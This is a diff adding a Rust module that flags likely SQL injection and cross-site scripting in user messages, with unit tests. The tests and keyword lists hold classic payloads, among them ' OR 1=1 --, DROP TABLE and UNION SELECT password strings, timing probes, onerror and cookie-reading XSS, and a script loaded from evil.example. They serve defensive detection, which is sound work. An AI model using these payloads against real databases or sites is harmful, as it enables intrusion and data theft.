@@ -1,0 +1,262 @@
+//! What looks like an attack on a database or on a reader's browser. Statements are bound and output is encoded whatever
+//! this says: it tells the operator that somebody tries.
+
+use crate::fold;
+
+/// What a message looks like.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Pattern {
+    /// Injected SQL.
+    Sql,
+    /// Injected markup or script.
+    Script,
+}
+
+/// What the message looks like, disguised or encoded for URLs too. A question about SQL or HTML is not an attack with it:
+/// a pattern is what breaks out of a value, not a statement or an element by itself.
+pub fn patterns(raw: &str) -> Vec<Pattern> {
+    let mut texts = vec![fold::fold(raw).text];
+    if raw.contains(['%', '&', '\\']) {
+        texts.extend(crate::decode::decode(raw).iter().map(|text| fold::fold(text).text));
+    }
+    let any = |judge: fn(&str) -> bool| texts.iter().any(|text| judge(text));
+    let mut found = Vec::new();
+    if any(is_sql) {
+        found.push(Pattern::Sql);
+    }
+    if any(is_script) {
+        found.push(Pattern::Script);
+    }
+    found
+}
+
+/// Comments taken out, blanks made one.
+fn flat(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(at) = rest.find("/*") {
+        let (before, comment) = rest.split_at(at);
+        out.push_str(before);
+        out.push(' ');
+        rest = comment.find("*/").and_then(|end| comment.get(end + 2..)).unwrap_or_default();
+    }
+    out.push_str(rest);
+    out.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+fn is_sql(text: &str) -> bool {
+    if !text.contains(['\'', '"', ';', ')', '-', '1']) {
+        return false;
+    }
+    let text = flat(text);
+    let text = text.as_str();
+    breaks_out(text) || stacked(text) || united(text) || timed(text)
+}
+
+/// `' or 1=1`, `" or "a"="a`, `') or ('x'='x`, `admin'--`: a quotation mark that ends a value, and a condition or a comment.
+fn breaks_out(text: &str) -> bool {
+    text.match_indices(['\'', '"', ')']).any(|(at, _)| {
+        let after = text.get(at + 1..).unwrap_or_default().trim_start_matches([')', ' ', '\'']);
+        let tail = after.trim_start();
+        if (tail.starts_with("--") || tail.starts_with("#"))
+            && tail.trim_start_matches(['-', '#', ' ', '+']).is_empty()
+        {
+            return true;
+        }
+        let condition =
+            ["or ", "and ", "or(", "|| ", "&& "].into_iter().find_map(|word| after.strip_prefix(word));
+        condition.is_some_and(always_true)
+    })
+}
+
+/// Whether the condition begins with an equation of two equal values.
+fn always_true(condition: &str) -> bool {
+    let condition = condition.trim_start_matches(['(', ' ']);
+    let Some((left, right)) = condition.split_once('=') else {
+        return condition.starts_with("true") || condition.starts_with("1 --");
+    };
+    let value = |text: &str| text.trim().trim_matches(['\'', '"', '(', ')']).to_owned();
+    let right: String =
+        right.trim().chars().take_while(|c| !c.is_whitespace() && *c != ';' && *c != ')').collect();
+    let right = right.split("--").next().unwrap_or_default();
+    let (left, right) = (value(left), value(right));
+    !left.is_empty() && left.len() <= 12 && !left.contains(' ') && left == right
+}
+
+/// `; drop table x`, after the end of a value.
+fn stacked(text: &str) -> bool {
+    const AFTER: &[&str] = &[
+        "drop table",
+        "drop database",
+        "delete from",
+        "truncate table",
+        "insert into",
+        "exec ",
+        "exec(",
+        "shutdown",
+        "alter table",
+        "xp_cmdshell",
+        "declare @",
+    ];
+    ["';", "\";", "');", "\");", "' ;", "1;", "0;"].iter().any(|end| {
+        text.match_indices(end).any(|(at, found)| {
+            let rest = text.get(at + found.len()..).unwrap_or_default().trim_start();
+            AFTER.iter().any(|verb| rest.starts_with(verb))
+                || (rest.starts_with("update ") && rest.contains(" set "))
+        })
+    })
+}
+
+/// `' union select`, `1 union all select`.
+fn united(text: &str) -> bool {
+    text.match_indices("union ").any(|(at, found)| {
+        let before = text.get(..at).unwrap_or_default().trim_end();
+        let after = text.get(at + found.len()..).unwrap_or_default();
+        let after = after.strip_prefix("all ").or_else(|| after.strip_prefix("distinct ")).unwrap_or(after);
+        let ends_value = before.ends_with(['\'', '"', ')']) || ends_in_id(before);
+        after.trim_start_matches('(').starts_with("select") && ends_value
+    })
+}
+
+/// Whether it ends in `=` or a name, and a number: `id=-1`, `id 1`.
+fn ends_in_id(text: &str) -> bool {
+    let head = text.trim_end_matches(|c: char| c.is_ascii_digit());
+    head.len() < text.len() && (head.is_empty() || head.ends_with(['=', '-']) || head.ends_with("id "))
+}
+
+fn timed(text: &str) -> bool {
+    let call = ["sleep(", "benchmark(", "pg_sleep(", "waitfor delay"].iter().find_map(|call| text.find(call));
+    call.is_some_and(|at| {
+        let before = text.get(..at).unwrap_or_default();
+        ["' ", "\" ", ") ", "';", "1;"].iter().any(|end| before.contains(end))
+            && ["or ", "and ", "select ", ";", "if("].iter().any(|joint| before.contains(joint))
+    })
+}
+
+fn is_script(text: &str) -> bool {
+    if !text.contains(['<', ':', '=']) {
+        return false;
+    }
+    // What browsers skip inside a scheme.
+    let tight: String = text.chars().filter(|c| !c.is_whitespace()).collect();
+    if tight.contains("javascript:") && tight.contains("javascript:alert")
+        || tight.contains("=\"javascript:")
+        || tight.contains("='javascript:")
+        || tight.contains("](javascript:")
+        || tight.contains("=javascript:")
+        || tight.contains("](data:text/html")
+        || tight.contains("\"data:text/html")
+        || tight.contains("vbscript:msgbox")
+    {
+        return true;
+    }
+    text.match_indices('<').any(|(at, _)| {
+        let element = text.get(at + 1..).unwrap_or_default();
+        let element: String = element.chars().take(400).collect();
+        opens_script(&element) || handles(&element)
+    })
+}
+
+/// A script that does something: code that reads or shows, or a source.
+fn opens_script(element: &str) -> bool {
+    let Some(rest) = element.strip_prefix("script") else { return false };
+    if !rest.starts_with(['>', ' ', '/', '\n']) {
+        return false;
+    }
+    const DOES: &[&str] = &[
+        "alert(",
+        "prompt(",
+        "confirm(",
+        "document.",
+        "window.",
+        "eval(",
+        "fetch(",
+        "src=",
+        "src =",
+        "location",
+        "cookie",
+        "xmlhttprequest",
+        "import(",
+        "atob(",
+    ];
+    DOES.iter().any(|does| rest.contains(does))
+}
+
+/// An element with an `on…=` handler: `<img src=x onerror=…>`, `<svg/onload=…>`.
+fn handles(element: &str) -> bool {
+    if !element.starts_with(|c: char| c.is_ascii_alphabetic()) {
+        return false;
+    }
+    let tag = element.split('>').next().unwrap_or_default();
+    tag.match_indices("on").any(|(at, _)| {
+        let before = tag.get(..at).unwrap_or_default();
+        let name = tag.get(at + 2..).unwrap_or_default();
+        let len = name.bytes().take_while(u8::is_ascii_lowercase).count();
+        let value = name.get(len..).unwrap_or_default().trim_start();
+        let code = value.strip_prefix('=').map(str::trim_start);
+        before.ends_with([' ', '/', '"', '\'', '\n', '\t'])
+            && (3..=20).contains(&len)
+            && code
+                .is_some_and(|code| code.contains('(') || code.contains("javascript") || code.contains('`'))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn attacks_on_a_database_are_seen() {
+        for attack in [
+            "' OR 1=1 --",
+            "admin'--",
+            "\" or \"a\"=\"a",
+            "') OR ('x'='x",
+            "x'; DROP TABLE members; --",
+            "1 UNION ALL SELECT name, password FROM users",
+            "id=-1 union select 1,2,3",
+            "foo' /**/UNION/**/SELECT/**/secret",
+            "%27%20OR%201%3D1%20--",
+            "1; DELETE FROM posts",
+            "' AND sleep(5) --",
+            "＇ OR 1=1 --",
+        ] {
+            assert_eq!(patterns(attack), vec![Pattern::Sql], "{attack}");
+        }
+    }
+
+    #[test]
+    fn attacks_on_a_browser_are_seen() {
+        for attack in [
+            "<script>alert(1)</script>",
+            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+            "<img src=x onerror=alert(1)>",
+            "<svg/onload=alert(document.cookie)>",
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "[x](javascript:alert(1))",
+            "<a href=\"java\tscript:alert(1)\">",
+            "%3Cscript%3Ealert(1)%3C/script%3E",
+            "&#60;script&#62;alert(1)&#60;/script&#62;",
+        ] {
+            assert_eq!(patterns(attack), vec![Pattern::Script], "{attack}");
+        }
+    }
+
+    #[test]
+    fn questions_about_databases_and_pages_are_not_attacks() {
+        for question in [
+            "How does UNION ALL differ from UNION in SQL?",
+            "What does SELECT * FROM users WHERE id = 1 do?",
+            "Why is 'a' or 'b' = true in Python?",
+            "DROP TABLE vs TRUNCATE TABLE; which is faster?",
+            "I don't know -- do you?",
+            "What is the <script> tag for, and where does it go?",
+            "Where do I put onclick in <button onclick>?",
+            "it's 5 or 6 o'clock; update me please",
+            "In javascript: what does === mean?",
+            "x = 1; update the view and it's done",
+        ] {
+            assert_eq!(patterns(question), Vec::new(), "{question}");
+        }
+    }
+}
